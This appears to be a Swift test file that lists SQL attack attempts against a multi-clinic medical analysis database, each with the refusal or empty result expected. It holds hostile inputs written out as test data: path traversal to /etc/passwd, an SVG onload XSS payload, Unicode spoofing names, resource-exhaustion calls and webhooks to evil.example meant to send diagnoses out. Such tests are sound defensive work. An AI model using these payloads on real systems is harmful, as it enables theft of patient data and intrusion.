extension SQLAttack {
  /// What who runs the queue tries.
  static let ofOperators: [SQLAttack] = [
    SQLAttack(
      .operator, "opens results", "SELECT analysis.open_results('sue-south', '{1}')", .refused("42501")),
    SQLAttack(
      .operator, "reads the report of analyses", "SELECT analysis.open_analyses({month}::smallint, NULL)",
      .refused("42501")),
    SQLAttack(
      .operator, "finds a diagnosis in a shown job",
      "SELECT count(*) FROM (SELECT to_jsonb(s)::text AS row FROM analysis.jobs_shown(0::smallint, {month}::smallint, ARRAY[{succeeded-south}]::bigint[]) s) t WHERE t.row ~ 'tonsillitis|band'",
      .answers("(0)")),
    SQLAttack(
      .northernOperator, "lists the batches of another clinic",
      "SELECT * FROM analysis.list_batches(NULL, NULL, 1000, 2147483647)", .nothing),
    SQLAttack(
      .northernOperator, "counts the jobs of another clinic's batch",
      "SELECT * FROM analysis.batch_counts(0::smallint, ARRAY[{batch}]::bigint[])", .nothing),
    SQLAttack(
      .northernOperator, "asks why jobs of another clinic's batch died",
      "SELECT * FROM analysis.batch_causes(0::smallint, {batch}, 100)", .nothing),
    SQLAttack(
      .northernOperator, "finds the jobs of another clinic's batch",
      "SELECT * FROM analysis.find_jobs(0::smallint, jsonb_build_object('batch', {batch}), NULL, NULL, 100, 1)",
      .nothing),
    SQLAttack(
      .northernOperator, "finds another clinic's jobs by a reference",
      """
      SELECT * FROM analysis.find_jobs(0::smallint, '{"reference": "confided"}', NULL, NULL, 100, 1)
      """, .nothing),
    SQLAttack(
      .northernOperator, "reads the reference of another clinic's job",
      "SELECT * FROM analysis.job_label_of(0::smallint, {month}::smallint, {succeeded-south})", .nothing),
    SQLAttack(
      .operator, "pauses under a name without end",
      "SELECT analysis.pause('endpoint', repeat('x', 1000000), NULL, NULL)",
      .refused("22023")),
    SQLAttack(
      .operator, "pauses what there is not", "SELECT analysis.pause('user', 'ann-north', NULL, NULL)",
      .refused("22023")),
    SQLAttack(
      .operator, "resumes what there is not", "SELECT analysis.resume('user', 'ann-north')", .nothing),
    SQLAttack(
      .operator, "cancels jobs that there are not",
      "SELECT o_outcome FROM analysis.cancel(0::smallint, '{9223372036854775807}')",
      .answers("(unknown)")),
    SQLAttack(
      .operator, "undoes cancellations that there are not",
      "SELECT o_outcome FROM analysis.uncancel(0::smallint, ARRAY[{succeeded-north}]::bigint[])",
      .answers("(not_cancelled)")),
    SQLAttack(
      .operator, "retries jobs that are not dead",
      "SELECT o_outcome FROM analysis.retry_dead(0::smallint, ARRAY[{succeeded-north}]::bigint[])",
      .answers("(not_dead)")),
    SQLAttack(
      .operator, "retries more than one call may",
      "SELECT * FROM analysis.retry_dead(0::smallint, (SELECT array_agg(i) FROM generate_series(1, 100001::bigint) i))",
      .refused("22023")),
    SQLAttack(
      .operator, "asks for every cause there ever was",
      "SELECT * FROM analysis.dead_causes('-infinity', 2147483647)",
      .refused("22023")),
    SQLAttack(
      .operator, "counts the dead without end", "SELECT * FROM analysis.dead_counts(0::smallint, 2147483647)",
      .refused("22023")),
    SQLAttack(
      .operator, "finds another office's patients in the month's totals",
      "SELECT count(*) FROM (SELECT to_jsonb(t)::text AS row FROM analysis.month_totals() t) x WHERE row ~ 'south|confided'",
      .answers("(0)")),
    SQLAttack(
      .operator, "reads the past of the queue without end",
      "SELECT * FROM analysis.queue_past(2147483647, 2147483647) LIMIT 1", .tellsNothing),
    SQLAttack(
      .operator, "counts lanes without end",
      "SELECT * FROM analysis.status_of_lanes(0::smallint, '{4,5,6,7}', 2147483647)", .tellsNothing),
    SQLAttack(
      .operator, "counts a shard without end",
      "SELECT * FROM analysis.status_of_shard(0::smallint, 2147483647)",
      .refused("22023")),
    SQLAttack(
      .operator, "counts the whole queue without end",
      "SELECT * FROM analysis.status_of_queue(2147483647)", .tellsNothing),
    SQLAttack(
      .operator, "looks over the queue without end", "SELECT analysis.queue_overview(2147483647)",
      .refused("22023")),
    SQLAttack(
      .operator, "counts lanes that there are not without end",
      "SELECT * FROM analysis.count_lanes(0::smallint, array_fill(5::smallint, ARRAY[1000000]), NULL, 2147483647)",
      .tellsNothing),
    SQLAttack(
      .operator, "counts the dead of all shards without end",
      "SELECT * FROM analysis.status_of_deaths(2147483647)", .refused("22023")),
    SQLAttack(
      .northernOperator, "reads how many of all clinics' jobs died", "SELECT dead FROM analysis.shard_count",
      .refused("42501")),
    SQLAttack(
      .northernOperator, "counts another clinic's jobs by their states",
      """
      SELECT sum(o_count) = (SELECT count(*) FROM analysis.list_jobs(
        0::smallint, NULL, NULL, NULL, NULL, NULL, NULL, 1000, 2500) WHERE o_state IS NOT NULL)
      FROM analysis.jobs_by_state()
      """, .answers("(t)")),
    SQLAttack(
      .operator, "looks for lost jobs without end",
      "SELECT * FROM analysis.lost_jobs(0::smallint, {month}::smallint, 2147483647)", .refused("22023")),
    SQLAttack(
      .operator, "compares a million objects in a call",
      "SELECT * FROM analysis.objects_compared('', NULL, array_fill('x'::text, ARRAY[1000000]), array_fill(1, ARRAY[1000000]), 1)",
      .refused("22023")),
    SQLAttack(
      .northernOperator, "counts all clinics' images by their objects",
      "SELECT * FROM analysis.objects_compared('', NULL, '{}', '{}', 1000)", .refused("42501")),
    SQLAttack(
      .operator, "makes a lost worker live by a sign of life to come",
      "SELECT analysis.worker_lives('infinity', NULL)", .answers("(f)")),
    SQLAttack(
      .operator, "finds patients among workers and pauses",
      """
      SELECT count(*) FROM (
        SELECT to_jsonb(w) FROM analysis.status_of_workers(0::smallint) w UNION ALL SELECT to_jsonb(p) FROM analysis.pauses_in_force() p
        UNION ALL SELECT to_jsonb(g) FROM analysis.gauges() g UNION ALL SELECT to_jsonb(k) FROM analysis.worker k
        UNION ALL SELECT to_jsonb(x) FROM analysis.gauge x UNION ALL SELECT to_jsonb(y) FROM analysis.pause y
        UNION ALL SELECT to_jsonb(c) FROM analysis.lane_count c UNION ALL SELECT to_jsonb(h) FROM analysis.queue_history h
        UNION ALL SELECT to_jsonb(r) FROM analysis.done_rates() r UNION ALL SELECT to_jsonb(q) FROM analysis.queue_state() q
        UNION ALL SELECT to_jsonb(s) FROM analysis.queue_past(3600, 60) s UNION ALL SELECT analysis.queue_overview(100)
        UNION ALL SELECT to_jsonb(analysis.backlog())) t(row)
      WHERE row::text ~ 'south|confided'
      """, .answers("(0)")),
    SQLAttack(
      .operator, "finds a patient's reference in the queue's tables",
      """
      SELECT count(*) FROM (
        SELECT to_jsonb(r) FROM analysis.ready r UNION ALL SELECT to_jsonb(s) FROM analysis.scheduled s
        UNION ALL SELECT to_jsonb(l) FROM analysis.lease l) t(row) WHERE row::text ~ 'south|confided'
      """, .answers("(0)")),
    SQLAttack(
      .operator, "reads file names of jobs", "SELECT source_name FROM analysis.job", .refused("42501")),
    SQLAttack(
      .operator, "erases a person", "SELECT * FROM analysis.erase_user(0::smallint, 'sue-south', NULL, true)",
      .refused("42501")),
    SQLAttack(
      .northernOperator, "lists another clinic's dead jobs",
      "SELECT o_message FROM analysis.list_dead(0::smallint, '{\"user\": \"sue-south\"}', NULL, NULL, 100)",
      .nothing),
    SQLAttack(
      .northernOperator, "finds another clinic's users among the dead jobs of all",
      """
      SELECT count(*) FROM analysis.list_dead(
        0::smallint, NULL, NULL, NULL, 2147483647)
      WHERE o_user ~ 'south'
      """, .answers("(0)")),
    SQLAttack(
      .northernOperator, "asks for the causes of another clinic's dead jobs",
      "SELECT * FROM analysis.deaths_of(0::smallint, ARRAY[{dead-south}]::bigint[])", .nothing),
    SQLAttack(
      .northernOperator, "finds another clinic's dead job among the causes of failures",
      "SELECT count(*) FROM analysis.failure_groups(0::smallint, 10000) WHERE o_job = {dead-south}",
      .answers("(0)")),
    SQLAttack(
      .operator, "groups failures without end",
      "SELECT * FROM analysis.failure_groups(0::smallint, 2147483647)",
      .refused("22023")),
    SQLAttack(
      .operator, "looks at a picture", "SELECT analysis.open_picture(0::smallint, {succeeded-south})",
      .refused("42501")),
    SQLAttack(
      .northernOperator, "asks who has another clinic's job",
      "SELECT o_host FROM analysis.job_holder(0::smallint, {succeeded-south})", .nothing),
    SQLAttack(
      .northernOperator, "watches what happens to another clinic's jobs",
      """
      SELECT o_user FROM analysis.watch(
        NULL, now() - interval '1 day', NULL, NULL, NULL, NULL, NULL, NULL, 500, 1000)
      WHERE o_user ~ 'south' OR o_reference ~ 'south' OR o_file ~ 'south' OR o_event = 'refused'
      """, .nothing),
    SQLAttack(
      .northernOperator, "finds the numbers of another clinic's jobs in the position of a look",
      """
      SELECT w.job FROM (
        SELECT unnest(o_jobs || o_job) AS job FROM analysis.watch(
          NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, 500, 1000)
        WHERE o_event = 'position') w
      WHERE w.job IN ({waiting-south}, {succeeded-south}, {dead-south})
      """, .nothing),
    SQLAttack(
      .northernOperator, "watches a user of another clinic by a position of its own making",
      """
      SELECT o_job FROM analysis.watch(
        '{"user": "sue-south"}', NULL, now() - interval '1 hour', '{0,0,0}', '{0}',
        ARRAY[{month}]::smallint[], ARRAY[{succeeded-south}]::bigint[], '{21}', 500, 1000)
      WHERE o_job IS NOT NULL AND o_event <> 'position'
      """, .nothing),
    SQLAttack(
      .operator, "has a look read without end",
      """
      SELECT o_event FROM analysis.watch(
        NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, 2147483647, 2147483647)
      """, .refused("22023")),
    SQLAttack(
      .operator, "asks which cancellations can be undone, for another time",
      "SELECT analysis.uncancel_from() < now() - interval '25 hours'", .answers("(f)")),
    SQLAttack(
      .northernOperator, "asks why another clinic's job died",
      "SELECT message FROM analysis.job_death(0::smallint, {dead-south})", .nothing),
    SQLAttack(
      .northernOperator, "compares another clinic's counters",
      "SELECT o_user FROM analysis.usage_differences(0::smallint, {month}::smallint) WHERE o_user = 'sue-south'",
      .nothing),
  ]

  /// What the office tries.
  static let ofAdministrators: [SQLAttack] = [
    SQLAttack(
      .administrator, "adds a user under a name that deceives its reader",
      "SELECT * FROM analysis.add_user(0::smallint, E'ann\\u202Ehtron', 'free', 'UTC', NULL, NULL)",
      .refused("22023")),
    SQLAttack(
      .administrator, "adds a user with a name without end",
      "SELECT * FROM analysis.add_user(0::smallint, repeat('x', 1000000), 'free', 'UTC', NULL, NULL)",
      .refused("22023")),
    SQLAttack(
      .administrator, "adds a user in a shard that is not theirs",
      "SELECT * FROM analysis.add_user(9::smallint, 'mallory', 'free', 'UTC', NULL, NULL)", .refused("22023")),
    SQLAttack(
      .administrator, "imports a user in a shard that is not theirs",
      "SELECT * FROM analysis.import_users(9::smallint, '[{\"user\": \"mallory\"}]', true, false)",
      .refused("22023")),
    SQLAttack(
      .administrator, "imports more users than a call takes",
      """
      SELECT * FROM analysis.import_users(0::smallint,
        (SELECT jsonb_agg(jsonb_build_object('user', 'm' || i)) FROM generate_series(1, 1001) i), true, false)
      """, .refused("22023")),
    SQLAttack(
      .northernAdministrator, "gives another clinic's user to its own by an import",
      """
      SELECT * FROM analysis.import_users(0::smallint, '[{"user": "sue-south", "clinic": "north"}]', false, false)
      """, .refused("42501")),
    SQLAttack(
      .administrator, "gives a user the name of another",
      "SELECT analysis.rename_user(0::smallint, 'ann-north', 'sue-south')", .refused("22023")),
    SQLAttack(
      .administrator, "gives a user the name of one who was erased",
      "SELECT analysis.rename_user(0::smallint, 'ann-north', 'erased-7')", .refused("22023")),
    SQLAttack(
      .administrator, "reads whose names users had before", "SELECT * FROM analysis.renamed",
      .refused("42501")),
    SQLAttack(
      .northernAdministrator, "reads who another clinic's user is",
      "SELECT * FROM analysis.person_of(0::smallint, {sue})", .nothing),
    SQLAttack(
      .administrator, "gives a user a plan that there is not",
      "SELECT analysis.set_plan(0::smallint, 'ann-north', 'gold', NULL)", .refused("22023")),
    SQLAttack(
      .administrator, "sets a limit below nothing", "SELECT analysis.set_plan_limit('free', -1, NULL)",
      .refused("22023")),
    SQLAttack(
      .administrator, "sets a price below nothing",
      "SELECT analysis.set_plan_price('free', '-1', 'EUR', '2599-01-01', false)", .refused("22023")),
    SQLAttack(
      .administrator, "sets a price without end",
      "SELECT analysis.set_plan_price('free', repeat('9', 1000000), 'EUR', '2599-01-01', false)",
      .refused("22023")),
    SQLAttack(
      .administrator, "adds a plan that looks like another",
      "SELECT analysis.add_plan(E'fr\\u200Bee', 'Free', 1, 1000)", .refused("22023")),
    SQLAttack(
      .administrator, "moves a user to a zone that is a file",
      "SELECT analysis.set_zone(0::smallint, 'ann-north', '../../../etc/passwd')", .nothing),
    SQLAttack(
      .administrator, "ends a user's months on a day that is none",
      "SELECT * FROM analysis.set_period(0::smallint, 'ann-north', 32::smallint, NULL)", .refused("22023")),
    SQLAttack(
      .administrator, "moves the beginning of a month that is billed",
      "SELECT * FROM analysis.set_period(0::smallint, 'ann-north', 15::smallint, {month}::smallint)",
      .refused("22023")),
    SQLAttack(
      .northernAdministrator, "gives another clinic's user longer months",
      "SELECT * FROM analysis.set_period(0::smallint, 'sue-south', 31::smallint, NULL)", .nothing),
    SQLAttack(
      .northernAdministrator, "asks for the month of another clinic's user",
      "SELECT * FROM analysis.user_period(0::smallint, 'sue-south')", .nothing),
    SQLAttack(
      .administrator, "sets a photo of a machine's own metadata",
      "SELECT analysis.set_photo(0::smallint, 'ann-north', repeat('x', 1000000))", .refused("22023")),
    SQLAttack(
      .administrator, "saves a name without end",
      "SELECT analysis.save_profile(0::smallint, {ann}, repeat('x', 1000000), NULL, NULL, NULL, NULL)",
      .refused("22023")),
    SQLAttack(
      .administrator, "makes a clinic with a name that cannot be seen",
      "SELECT analysis.add_clinic(E'\\u200B')",
      .refused("22023")),
    SQLAttack(
      .administrator, "sets a logo that is a page of the web",
      "SELECT analysis.set_clinic('north', NULL, NULL, NULL, convert_to('<svg onload=alert(1)>', 'UTF8'), NULL)",
      .refused("22023")),
    SQLAttack(
      .administrator, "sets a logo without end",
      """
      SELECT analysis.set_clinic('north', NULL, NULL, NULL, NULL,
        E'\\\\xffd8ffc0000b08001000200101' || convert_to(repeat('x', 1000000), 'UTF8') || E'\\\\xffd9')
      """, .refused("22023")),
    SQLAttack(
      .administrator, "turns a clinic's address round",
      "SELECT analysis.set_clinic('north', NULL, E'1 Street\\u202E', NULL, NULL, NULL)", .refused("22023")),
    SQLAttack(
      .administrator, "has a clinic's product lead to another folder",
      "SELECT analysis.set_clinic('north', NULL, NULL, '../../etc/passwd', NULL, NULL)", .refused("22023")),
    SQLAttack(
      .administrator, "keeps a product without end",
      "SELECT analysis.set_product('x', array_fill('sharing'::text, ARRAY[100000]))", .refused("22023")),
    SQLAttack(
      .administrator, "gives a user to a clinic that there is not",
      "SELECT analysis.assign_clinic(0::smallint, 'ann-north', 'west')", .refused("22023")),
    SQLAttack(
      .administrator, "restricts the owner", "SELECT analysis.grant_clinics('analysis_owner', '{north}')",
      .refused("22023")),
    SQLAttack(
      .administrator, "restricts a login that there is not",
      "SELECT analysis.grant_clinics('nobody-here', '{north}')",
      .refused("22023")),
    SQLAttack(
      .administrator, "frees a login that is not restricted",
      "SELECT analysis.revoke_clinics('nobody-here', '{north}')",
      .nothing),
    SQLAttack(
      .administrator, "has diagnoses sent to itself",
      """
      SELECT analysis.add_webhook(0::smallint, 'sue-south', NULL, 'https://evil.example/', decode(repeat('00', 150), 'hex'),
        true, false)
      """, .refused("42501")),
    SQLAttack(
      .northernAdministrator, "has another clinic's jobs sent to it",
      """
      SELECT analysis.add_webhook(NULL, NULL, 'south', 'https://evil.example/', decode(repeat('00', 150), 'hex'), false,
        false)
      """, .refused("42501")),
    SQLAttack(
      .administrator, "adds a webhook with a password in its address",
      """
      SELECT analysis.add_webhook(0::smallint, 'sue-south', NULL, 'https://a:b@evil.example/',
        decode(repeat('00', 150), 'hex'), false, false)
      """, .refused("22023")),
    SQLAttack(
      .administrator, "reads the address of a webhook in the list",
      "SELECT count(*) FROM (SELECT to_jsonb(w)::text AS row FROM analysis.list_webhooks() w) t WHERE row ~ 'confided'",
      .answers("(0)")),
    SQLAttack(
      .northernAdministrator, "lists the webhooks of another clinic",
      "SELECT * FROM analysis.list_webhooks()",
      .nothing),
    SQLAttack(
      .northernAdministrator, "removes the webhook of another clinic",
      "SELECT analysis.remove_webhook({webhook})", .refused("42501")),
    SQLAttack(
      .northernAdministrator, "tests the webhook of another clinic",
      "SELECT analysis.test_webhook({webhook})",
      .refused("42501")),
    SQLAttack(
      .northernAdministrator, "sends another clinic's events again",
      "SELECT analysis.replay_webhook({webhook}, '2000-01-01', NULL, NULL, false)", .refused("42501")),
    SQLAttack(
      .northernAdministrator, "looks at an event of another clinic",
      "SELECT * FROM analysis.webhook_event_state(0::smallint, {event})", .nothing),
    SQLAttack(
      .administrator, "sends events again since the beginning of time",
      "SELECT analysis.replay_webhook({webhook}, '-infinity', NULL, NULL, false)", .refused("22023")),
    SQLAttack(
      .administrator, "sets what is no setting", "SELECT analysis.set_setting('keep_image', '1 day', '')",
      .refused("22023")),
    SQLAttack(
      .administrator, "sets a value that cannot be meant", "SELECT analysis.set_setting('shards', '0', '1')",
      .refused("22023")),
    SQLAttack(
      .administrator, "sees whether a value could be set by what it says",
      "SELECT analysis.preview_setting('keep_images', repeat('9', 100000) || ' days')", .refused("22023")),
    SQLAttack(
      .administrator, "forges an entry about keys", "SELECT analysis.audit_key('erase', 1)", .refused("22023")
    ),
    SQLAttack(
      .administrator, "waits for submits without end", "SELECT analysis.await_submits()", .nothing),
    SQLAttack(
      .administrator, "reads results", "SELECT analysis.open_results('sue-south', '{1}')", .refused("42501")),
    SQLAttack(
      .administrator, "reads pictures",
      "SELECT * FROM analysis.export_images(0::smallint, {sue}, '{export}', {month}::smallint, 0, 1)",
      .refused("42501")),
    SQLAttack(
      .administrator, "lists users without end",
      "SELECT * FROM analysis.list_photos(0::smallint, '', 2147483647)",
      .nothing),
    SQLAttack(
      .northernAdministrator, "shows another clinic's user",
      "SELECT * FROM analysis.user_shown(0::smallint, 'sue-south')",
      .nothing),
    SQLAttack(
      .northernAdministrator, "reads another clinic's profile",
      "SELECT * FROM analysis.profile_of(0::smallint, {sue})",
      .nothing),
    SQLAttack(
      .northernAdministrator, "reads another clinic's plans",
      "SELECT * FROM analysis.plans_of_user(0::smallint, {sue})",
      .nothing),
    SQLAttack(
      .northernAdministrator, "reads another clinic's month",
      "SELECT * FROM analysis.month_of(0::smallint, {sue}, {month}::smallint) WHERE o_used > 0", .nothing),
    SQLAttack(
      .northernAdministrator, "reads another clinic's names by the table",
      "SELECT name FROM analysis.profile WHERE user_id = {sue}",
      .nothing),
    SQLAttack(
      .northernAdministrator, "frees itself", "SELECT analysis.lift_clinics('{me}')", .refused("42501")),
    SQLAttack(
      .northernAdministrator, "sees more clinics", "SELECT analysis.grant_clinics('{me}', '{south}')",
      .refused("42501")),
    SQLAttack(
      .northernAdministrator, "takes its restriction from itself",
      "SELECT analysis.revoke_clinics('{me}', '{north}')",
      .refused("42501")),
    SQLAttack(
      .northernAdministrator, "takes another clinic's patient",
      "SELECT analysis.assign_clinic(0::smallint, 'sue-south', 'north')", .refused("42501")),
    SQLAttack(
      .northernAdministrator, "puts its logo above another clinic's statements",
      "SELECT analysis.set_clinic('south', NULL, NULL, NULL, ''::bytea, NULL)", .refused("42501")),
    SQLAttack(
      .northernAdministrator, "switches on what every clinic's product has off",
      "SELECT analysis.set_product('plain', '{}')", .refused("42501")),
    SQLAttack(
      .northernAdministrator, "counts another clinic's patients in what is known of it",
      "SELECT count(*) FROM analysis.clinics_shown(NULL) WHERE o_name <> 'north' AND o_users > 0",
      .answers("(0)")),
    SQLAttack(
      .northernAdministrator, "reads the name of another clinic's patient beside a picture",
      "SELECT count(*) FROM analysis.user_pictures(0::smallint, '{sue-south}')", .answers("(0)")),
    SQLAttack(
      .administrator, "asks for everybody's picture at once",
      "SELECT * FROM analysis.user_pictures(0::smallint, array_fill('sue-south'::text, ARRAY[1000000]))",
      .refused("22023")),
    SQLAttack(
      .administrator, "reads a file of the server as a logo",
      "SELECT analysis.logo_bytes('../../../etc/passwd')", .nothing),
    SQLAttack(
      .northernAdministrator, "sees which clinics others see",
      "SELECT count(*) FROM (SELECT to_jsonb(v) FROM analysis.list_clinic_viewers() v UNION ALL SELECT to_jsonb(w) FROM analysis.clinic_viewer w) t(row) WHERE row::text ~ 'confided'",
      .answers("(0)")),
    SQLAttack(
      .northernAdministrator, "counts another clinic's patients and what they have used",
      "SELECT count(*) FROM analysis.clinic_usage() WHERE o_clinic <> 'north' AND (o_users > 0 OR o_used > 0)",
      .answers("(0)")),
    SQLAttack(
      .northernAdministrator, "finds patients among clinics",
      "SELECT count(*) FROM (SELECT to_jsonb(v) FROM analysis.list_clinics() v UNION ALL SELECT to_jsonb(w) FROM analysis.clinic w) t(row) WHERE row::text ~ 'sue|confided'",
      .answers("(0)")),
  ]
}
